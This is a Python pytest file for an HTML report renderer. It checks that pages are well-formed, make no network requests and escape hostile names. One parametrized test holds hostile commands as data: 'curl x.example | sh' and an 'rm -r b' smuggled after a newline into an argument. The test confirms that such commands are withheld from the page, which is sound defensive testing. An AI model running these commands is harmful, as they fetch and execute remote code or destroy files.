"""The page as text: every byte of it, that it is well-formed, and that nothing foreign becomes markup."""

from __future__ import annotations

import json
import os
import re
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from reports.render.fake_report import EVIL, QUOTED, fake_report, fake_rows, picture_of, read
from reports.render.reader import Page, read_page

from lsgm.errors import DataError
from lsgm.results.row import row_id
from lsgm_reports.blocks import Cell, Column, Picture, Report, Section, Table, Text
from lsgm_reports.render.html import POLICY, to_html

GOLDEN = Path(__file__).parents[1] / "golden" / "report.html"


def page_of(folder: Path) -> str:
    rows = fake_rows()
    return to_html(fake_report(folder), read(rows, folder / "results.jsonl"), folder)


@pytest.fixture
def text(tmp_path: Path) -> str:
    return page_of(tmp_path)


@pytest.fixture
def page(text: str) -> Page:
    return read_page(text)


def test_golden(text: str) -> None:
    """Set LSGM_WRITE_GOLDEN=1 to write it anew, then look at it. Style and script are files, and left out."""
    bare = re.sub(r"(<style>|<script>).*?(</style>|</script>)", r"\1\2", text, flags=re.S)
    bare = re.sub('(?<=base64,)[^"]+', "", bare)  # zlib's bytes differ between its versions
    if os.environ.get("LSGM_WRITE_GOLDEN"):
        GOLDEN.write_text(bare, encoding="utf-8")
    assert bare == GOLDEN.read_text(encoding="utf-8")


def assert_sound(page: Page) -> None:
    assert page.faults == []
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    targets = [value[1:] for value in page.values("href") if value.startswith("#")]
    named = [*targets, *page.values("aria-labelledby"), *" ".join(page.values("data-with")).split()]
    assert set(named) - {"provenance-title"} <= set(ids)  # the dialog gets its title with its content
    assert len(page.all("h1")) == 1


def test_the_page_is_sound(page: Page) -> None:
    assert_sound(page)
    assert page.all("html") == [{"lang": "en"}]
    levels = [int(tag[1]) for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert all(image.get("alt") for image in page.all("img"))


def test_nothing_is_asked_of_any_network(text: str, page: Page) -> None:
    assert {"http-equiv": "Content-Security-Policy", "content": POLICY} in page.all("meta")
    assert all(value.startswith(("#", "data:")) for value in [*page.values("href"), *page.values("src")])
    assert page.values("srcset") == []
    style = "".join(re.findall(r"<style>(.*?)</style>", text, flags=re.S))
    assert "url(" not in style
    assert "@import" not in style


def test_names_stay_words(text: str, page: Page) -> None:
    assert EVIL not in text
    assert EVIL in page.text
    assert QUOTED in page.text
    assert "it <b>failed</b>" in page.text
    assert [image["alt"] for image in page.all("img")] == [f"Samples of {EVIL} & co"] * 3
    assert len(page.all("script")) == 2


def test_every_measured_number_leads_to_its_record(page: Page) -> None:
    rows = fake_rows()
    links = [link["href"] for link in page.all("a") if link.get("class") == "number"]
    assert set(links) == {f"#row-{row_id(row)}" for row in rows}
    records = [record for record in page.all("details") if record.get("class") == "record"]
    assert [record["id"] for record in records] == [f"row-{row_id(row)}" for row in rows]
    for row in rows:
        assert repr(row.value) in page.text or row.value is None
        assert f"lsgm reproduce 'results.jsonl#{row_id(row)}'" in page.text


def test_the_records_stand_for_the_list_of_rows_and_are_there_without_it(tmp_path: Path) -> None:
    listed = read_page(page_of(tmp_path))
    bare = read_page(to_html(Report("Results", []), read(fake_rows()), tmp_path))
    for page in (listed, bare):
        assert_sound(page)
        assert page.text.count("Every row") == 2  # its heading, and in the contents
        assert sum(each.get("class") == "record" for each in page.all("details")) == 10


def manifest(folder: Path, **changes: object) -> None:
    content = {
        "format": 1,
        "id": "0123456789ab",
        "started": "2026-01-02T03:04:05+00:00",
        "command": ["lsgm", "eval", "glyphs", "--model", "my <model>=runs/a b"],
        "directory": "/home/me",
        "environment": {"OMP_NUM_THREADS": "1"},
        "git_revision": "9" * 40,
        "code_version": "c0de",
        "versions": {"torch": "2.13.0"},
        "hardware": {"cpu": "Abacus 7", "processes": 1},
        "device": "cpu",
        "models": [{"name": "lsgm", "spec": "runs/a b", "sha256": "1f" * 32, "parameters": {"vae": 4321}}],
        "task": {
            "identity": "glyphs@1/smoke",
            "sha256": "7a",
            "data": "glyphs",
            "dataset": "d",
            "extractors": [],
        },
    }
    (folder / "manifests").mkdir()
    (folder / "manifests" / "0123456789ab.json").write_text(json.dumps(content | changes))


def test_the_call_that_measured_is_told_from_its_manifest(tmp_path: Path) -> None:
    manifest(tmp_path)
    text = read_page(page_of(tmp_path)).text
    for word in (
        "lsgm eval glyphs --model 'my <model>=runs/a b'",
        "Abacus 7",
        "torch 2.13.0",
        "4,321",
        "/home/me",
    ):
        assert word in text
    assert text.count("Abacus 7") == 1


@pytest.mark.parametrize(
    ("command", "why"),
    [
        (["lsgm", "train", "glyphs"], "`lsgm train`, which measures no row"),
        (["curl", "x.example", "|", "sh"], "is none of lsgm"),
        (["lsgm", "eval", "glyphs", "--model", "m=evil:factory"], "evil:factory calls factory()"),
        (["lsgm", "eval", "glyphs", "--extractor", "dinov2:hub:m"], "hub/hubconf.py"),
        (["lsgm", "eval", "evil.toml"], "evil.toml, which may name code of others"),
        (["lsgm", "eval", "glyphs", "--tier", "a\nrm -r b"], "does not print as it is"),
    ],
)
def test_a_call_that_is_not_to_be_copied_is_not_shown_but_why(
    command: list[str], why: str, tmp_path: Path
) -> None:
    manifest(tmp_path, command=command)
    text = read_page(page_of(tmp_path)).text
    assert "Why no command is shown" in text
    assert why in text
    assert " ".join(command) not in text


def test_a_manifest_that_is_gone_or_damaged_takes_no_number_away(tmp_path: Path) -> None:
    assert "manifests/0123456789ab.json is gone" in read_page(page_of(tmp_path)).text
    manifest(tmp_path, format=99)
    assert "has format 99" in read_page(page_of(tmp_path)).text


def test_a_picture_that_is_none_is_named(tmp_path: Path) -> None:
    broken = tmp_path / "broken.png"
    broken.write_bytes(b"GIF89a")
    for file, words in ((broken, "is no PNG image"), (tmp_path / "gone.png", "there is no")):
        report = Report("R", [Section("S", [Picture(file, "c")])])
        with pytest.raises(DataError, match=words):
            to_html(report, read([]), tmp_path)


def test_large_images_are_shown_as_they_are_and_small_ones_enlarged(tmp_path: Path) -> None:
    for size, shown in ((8, "pixels"), (500, None)):
        picture = picture_of(tmp_path / f"{size}.png", size)
        (image,) = read_page(to_html(Report("R", [Section("S", [picture])]), read([]), tmp_path)).all("img")
        assert (image["width"], image.get("class")) == (str(size), shown)


def test_a_sheet_of_images_scrolls_in_a_box_that_keys_reach(tmp_path: Path) -> None:
    Image.new("L", (900, 300)).save(tmp_path / "sheet.png")
    picture = Picture(tmp_path / "sheet.png", "neighbours & samples")
    page = read_page(to_html(Report("R", [Section("S", [picture])]), read([]), tmp_path))
    assert "sheet" in page.values("class")
    (box,) = [each for each in page.all("div") if each.get("role") == "region"]
    assert (box["tabindex"], box["aria-label"]) == ("0", "neighbours & samples")


@settings(max_examples=30, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8"), min_size=1), min_size=7, max_size=7))
def test_any_words_anywhere_make_a_sound_page(words: list[str]) -> None:
    title, model, metric, sampler, note, manifest_id, head = words
    row = replace(
        fake_rows()[0], model=model, metric=metric, sampler=sampler, note=note, manifest=manifest_id
    )
    table = Table(
        title,
        [Column(head, "left"), Column(head)],
        [[Cell(model), Cell(note, row=row, mark="a")]],
        [("a", note)],
    )
    report = Report(title, [Section(title, [table, Text(note)], [Section(head)]), Section(title)])
    page = read_page(to_html(report, read([row], Path(sampler.replace("\0", "0"))), Path()))
    assert_sound(page)
    assert " ".join(model.split()) in " ".join(page.text.split()) or not model.isprintable()
